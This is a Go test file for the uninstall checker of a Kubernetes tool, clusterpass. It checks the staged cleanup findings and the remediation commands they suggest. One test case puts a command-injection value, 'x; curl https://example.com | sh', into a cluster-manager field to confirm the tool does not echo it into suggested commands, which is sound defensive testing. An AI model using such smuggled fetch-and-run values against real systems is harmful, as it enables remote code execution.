// Copyright The clusterpass Authors.
// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"errors"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes/fake"
	kubernetesscheme "k8s.io/client-go/kubernetes/scheme"
	metadatafake "k8s.io/client-go/metadata/fake"
	clienttesting "k8s.io/client-go/testing"
	aggregatorfake "k8s.io/kube-aggregator/pkg/client/clientset_generated/clientset/fake"
	inventoryv1alpha1 "sigs.k8s.io/cluster-inventory-api/apis/v1alpha1"
	inventoryfake "sigs.k8s.io/cluster-inventory-api/client/clientset/versioned/fake"

	clusterpassv1alpha1 "clusterpass.dev/apis/clusterpass/v1alpha1"
	clusterpassfake "clusterpass.dev/pkg/generated/clientset/versioned/fake"
	"clusterpass.dev/pkg/grant"
	"clusterpass.dev/pkg/member"
)

// clusterWith returns clients for a cluster with these objects. Of Secrets it gives metadata alone.
func clusterWith(t *testing.T, objects ...runtime.Object) *Clients {
	t.Helper()
	client := fake.NewClientset(objects...)
	client.PrependReactor("*", "secrets", func(action clienttesting.Action) (bool, runtime.Object, error) {
		assert.Fail(t, "Secrets are asked for with their data", action.GetVerb())
		return false, nil, nil
	})
	partial := make([]runtime.Object, 0, len(objects))
	for _, object := range objects {
		kinds, _, err := kubernetesscheme.Scheme.ObjectKinds(object)
		require.NoError(t, err)
		o, err := meta.Accessor(object)
		require.NoError(t, err)
		of := meta.AsPartialObjectMetadata(o)
		of.SetGroupVersionKind(kinds[0])
		partial = append(partial, of)
	}
	scheme := metadatafake.NewTestScheme()
	require.NoError(t, metav1.AddMetaToScheme(scheme))
	return &Clients{Kubernetes: client, Metadata: metadatafake.NewSimpleMetadataClient(scheme, partial...)}
}

// TestUninstall takes an installation away stage by stage. Only the first that is left has the
// command.
func TestUninstall(t *testing.T) {
	ours := map[string]string{"app.kubernetes.io/part-of": "clusterpass"}
	set := &clusterpassv1alpha1.ClusterCredentialSet{ObjectMeta: named("default", "gpu")}
	granted := &clusterpassv1alpha1.AuthTokenGrant{ObjectMeta: named("default", "work")}
	granted.DeletionTimestamp, granted.Finalizers = &metav1.Time{}, []string{"clusterpass.dev/revoke"}
	granted.Status.Conditions = []metav1.Condition{
		condition(clusterpassv1alpha1.GrantRevoked, "False", "MemberUnreachable", "connection refused"),
	}
	heldSet := &clusterpassv1alpha1.ClusterCredentialSet{ObjectMeta: named("default", "held")}
	heldSet.DeletionTimestamp = &metav1.Time{}
	heldSet.Status.Conditions = []metav1.Condition{condition(clusterpassv1alpha1.CredentialSetReady, "False", "NotReady", "no right")}
	// memberSecret returns the hub's credential for a ClusterProfile, made by hand if it has no uid.
	memberSecret := func(profile, uid string) *corev1.Secret {
		secret := &corev1.Secret{ObjectMeta: named(SystemNamespace, "member-default-"+profile)}
		secret.Labels = map[string]string{"clusterpass.dev/member-kubeconfig": "true"}
		secret.Annotations = map[string]string{"clusterpass.dev/cluster-profile": "default/" + profile}
		if uid != "" {
			secret.Annotations[member.MemberUIDAnnotation] = uid
		}
		return secret
	}
	joined, second := memberSecret("bravelion", "member"), memberSecret("smartfish", "member")
	byHand, secondByHand := memberSecret("bravelion", ""), memberSecret("smartfish", "")
	profileOf := func(manager string) *inventoryv1alpha1.ClusterProfile {
		profile := &inventoryv1alpha1.ClusterProfile{ObjectMeta: named("default", "bravelion")}
		profile.Spec.ClusterManager.Name = manager
		return profile
	}
	onMember := func(name string, labels map[string]string) *rbacv1.ClusterRoleBinding {
		return &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: labels}}
	}
	grantsOf := func(hubID string) map[string]string {
		return map[string]string{grant.LabelManagedBy: grant.ManagedBy, grant.LabelHubID: hubID}
	}
	kubeSystem := func(uid string) *corev1.Namespace {
		return &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: metav1.NamespaceSystem, UID: types.UID(uid)}}
	}
	binding := &rbacv1.RoleBinding{ObjectMeta: named("kueue-system", "mine"), RoleRef: roleRef("ClusterRole", "clusterpass:credential-sets")}
	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: SystemNamespace, Labels: ours}}
	deployment := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: SystemNamespace, Name: serverName, Labels: ours}}
	withHubID := deployment.DeepCopy()
	withHubID.Spec.Template.Spec.Containers = []corev1.Container{{Name: serverName, Args: []string{"--v=2", "--hub-id=blue"}}}
	role := &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "clusterpass:multikueue", Labels: ours}}
	notServed := apierrors.NewNotFound(schema.GroupResource{}, "")
	foreign := service("v1.apps", local)

	for name, test := range map[string]struct {
		hub, clusterpass, profiles, member objects
		// unregistered says that the APIServices of clusterpass are gone.
		unregistered bool
		// unserved is what the hub answers for both kinds of clusterpass.
		unserved error
		// itself says that the member is the hub.
		itself          bool
		stage, left, is string
	}{
		"sets go first, whatever else is left": {hub: objects{joined, binding, namespace}, clusterpass: objects{set, granted},
			stage: "sets", left: "ClusterCredentialSet default/gpu", is: "kubectl delete clustercredentialsets --all --all-namespaces"},
		"and what holds them": {clusterpass: objects{heldSet}, stage: "sets",
			left: "ClusterCredentialSet default/held (being deleted; NotReady: no right)", is: "kubectl delete clustercredentialsets"},
		"then members, which get no other grants": {hub: objects{joined, namespace}, clusterpass: objects{granted}, stage: "members",
			left: "ClusterProfile default/bravelion", is: "kubectl clusterpass unjoin bravelion --namespace default --member-context CONTEXT"},
		"also those of another cluster manager": {hub: objects{joined, namespace}, profiles: objects{profileOf("platform")},
			stage: "members", left: "ClusterProfile default/bravelion",
			is: "unjoin bravelion --namespace default --cluster-manager platform --member-context CONTEXT"},
		"and no words of others are in a command": {
			hub: objects{joined, namespace}, profiles: objects{profileOf("x; curl https://example.com | sh")},
			stage: "members", left: "ClusterProfile default/bravelion",
			is: "unjoin bravelion --namespace default --cluster-manager MANAGER --member-context CONTEXT",
		},
		"and those that were joined by hand": {hub: objects{byHand, namespace}, stage: "members", left: "ClusterProfile default/bravelion",
			is: "kubectl -n clusterpass-system annotate secret member-default-bravelion --overwrite clusterpass.dev/leaving=true && " +
				"kubectl clusterpass revoke --cluster-profile default/bravelion --all-namespaces && " +
				"kubectl -n clusterpass-system delete secret member-default-bravelion"},
		"and before others, with which they may share an account": {hub: objects{joined, secondByHand, namespace}, stage: "members",
			left: "ClusterProfile default/smartfish, ClusterProfile default/bravelion", is: "revoke --cluster-profile default/smartfish"},
		"the first of several has the command": {hub: objects{joined, second, namespace}, stage: "members",
			left: "ClusterProfile default/bravelion, ClusterProfile default/smartfish", is: "unjoin bravelion --namespace default"},
		"then grants of members that have no Secret, and what holds them": {
			hub: objects{namespace}, clusterpass: objects{granted}, stage: "grants",
			left: "AuthTokenGrant default/work (being deleted; finalizers clusterpass.dev/revoke; MemberUnreachable: connection refused)",
			is:   "kubectl delete authtokengrants --all --all-namespaces",
		},
		"then what is left on them": {hub: objects{namespace}, member: objects{onMember("left", grantsOf("hub"))},
			stage: "on-members", left: "ClusterRoleBinding left on bravelion", is: "kubectl --context=bravelion delete clusterrolebinding " +
				"--all-namespaces -l 'clusterpass.dev/managed-by=clusterpass,clusterpass.dev/hub-id=hub'"},
		"by the id that the server was deployed with": {hub: objects{namespace, withHubID}, member: objects{onMember("left", grantsOf("blue"))},
			stage: "on-members", left: "ClusterRoleBinding left on bravelion", is: "clusterpass.dev/hub-id=blue'"},
		"and what manifests have put there": {hub: objects{namespace}, member: objects{onMember("left", ours)},
			stage: "on-members", left: "ClusterRoleBinding left on bravelion", is: "kubectl --context=bravelion delete clusterrolebinding " +
				"--all-namespaces -l 'app.kubernetes.io/part-of=clusterpass,!clusterpass.dev/joined-by,!clusterpass.dev/created-by-join'"},
		"but what another hub has there stays": {member: objects{
			onMember("granted", grantsOf("other")),
			onMember("joined", map[string]string{"app.kubernetes.io/part-of": "clusterpass", member.LabelJoinedBy: "other"}),
			&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: SystemNamespace, Labels: map[string]string{
				"app.kubernetes.io/part-of": "clusterpass", member.LabelCreatedBy: "other",
			}}},
		}, stage: "apiservices", left: "APIService", is: "kubectl delete apiservice"},
		"and so does its installation, where the member is another hub": {member: objects{onMember("left", ours), deployment},
			stage: "apiservices", left: "APIService", is: "kubectl delete apiservice"},
		"and so does the installation itself, of a hub that is its own member": {member: objects{onMember("left", ours)}, itself: true,
			stage: "apiservices", left: "APIService", is: "kubectl delete apiservice"},
		"then the APIServices, and not those of others": {hub: objects{namespace}, stage: "apiservices",
			left: "APIService v1alpha1.clusterpass.dev", is: "kubectl delete apiservice v1alpha1.clusterpass.dev"},
		"then namespaces that have waited for them": {
			hub: objects{namespace, terminating("team-a", time.Hour, undiscovered)}, unregistered: true,
			stage: "namespaces", is: "kubectl wait --for=delete namespace/team-a",
			left: "Namespace team-a (being deleted since 2026-05-01T11:00:00Z; NamespaceDeletionDiscoveryFailure: Discovery failed",
		},
		"then clusterpass's own, while it is being deleted": {
			hub: objects{role, terminating(SystemNamespace, time.Hour, podsRemain)}, unregistered: true, unserved: notServed,
			stage: "hub", is: "kubectl wait --for=delete namespace/clusterpass-system",
			left: "Namespace clusterpass-system (being deleted since 2026-05-01T11:00:00Z; " +
				"NamespaceContentRemaining: Some resources are remaining: pods. has 1",
		},
		"then bindings of operators": {hub: objects{namespace, binding, role}, unregistered: true, unserved: notServed, stage: "hub",
			left: "RoleBinding kueue-system/mine of clusterpass:credential-sets", is: "kubectl -n kueue-system delete rolebinding mine"},
		"then the overlay": {hub: objects{namespace, role}, unregistered: true, unserved: notServed, stage: "hub",
			left: "ClusterRole clusterpass:multikueue, Namespace clusterpass-system",
			is:   "kubectl delete -k artifacts/deploy/base --ignore-not-found"},
		"then what no overlay has": {hub: objects{role}, unregistered: true, unserved: notServed, stage: "hub",
			left: "ClusterRole clusterpass:multikueue",
			is:   "kubectl delete clusterrole --all-namespaces -l 'app.kubernetes.io/part-of=clusterpass'"},
		"nothing": {unregistered: true, unserved: notServed},
		"a server that does not answer can end nothing": {unserved: apierrors.NewServiceUnavailable("no endpoints"),
			stage: "sets", left: "no endpoints", is: "kubectl delete apiservice"},
		"a user without the right gets a message": {unserved: forbidden("clustercredentialsets"),
			stage: "sets", left: "you may not read this", is: "cluster-admin"},
	} {
		t.Run(name, func(t *testing.T) {
			memberID := map[bool]string{true: "hub", false: "member"}[test.itself]
			hub, bravelion := clusterWith(t, append(test.hub, kubeSystem("hub"))...), clusterWith(t, append(test.member, kubeSystem(memberID))...)
			registered := objects{foreign}
			if !test.unregistered {
				registered = append(registered, service(clusterpassService))
			}
			hub.Aggregator, hub.Profiles = aggregatorfake.NewSimpleClientset(registered...), inventoryfake.NewSimpleClientset(test.profiles...)
			served := clusterpassfake.NewClientset(test.clusterpass...)
			if test.unserved != nil {
				refuse(&served.Fake, "list", "*", test.unserved)
			}
			hub.Clusterpass = served
			found := Uninstall(t.Context(), hub, map[string]*Clients{"bravelion": bravelion})
			assert.Len(t, found, len(stages))
			var next []Finding
			for _, finding := range found {
				if finding.Verdict == Fail {
					next = append(next, finding)
				} else {
					assert.Empty(t, finding.Mend, finding.Check)
				}
			}
			if apierrors.IsNotFound(test.unserved) {
				assert.Equal(t, Skip, found[0].Verdict, "nobody can tell whether there are sets")
			}
			if test.stage == "" {
				assert.Equal(t, OK, Worst(found))
				return
			}
			if assert.Len(t, next, 1, "%+v", found) {
				assert.Equal(t, test.stage, next[0].Check)
				assert.Contains(t, next[0].Message, test.left)
				assert.Contains(t, next[0].Mend, test.is)
			}
		})
	}
}

func TestUninstall_MemberDown(t *testing.T) {
	hub := clusterWith(t, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: metav1.NamespaceSystem, UID: "hub"}})
	hub.Clusterpass, hub.Aggregator = clusterpassfake.NewClientset(), aggregatorfake.NewSimpleClientset()
	hub.Profiles = inventoryfake.NewSimpleClientset()
	down := fake.NewClientset()
	refuse(&down.Fake, "*", "*", errors.New("connection refused"))
	for name, test := range map[string]struct {
		members map[string]*Clients
		want    Verdict
	}{
		"is no reason to delete the hub's APIServices":    {map[string]*Clients{"bravelion": {Kubernetes: down}}, Fail},
		"is not looked at where nobody names its context": {nil, Skip},
	} {
		t.Run(name, func(t *testing.T) {
			for _, finding := range Uninstall(t.Context(), hub, test.members) {
				if finding.Check == "on-members" {
					assert.Equal(t, test.want, finding.Verdict)
				}
				assert.NotContains(t, finding.Mend, "delete apiservice")
			}
		})
	}
}
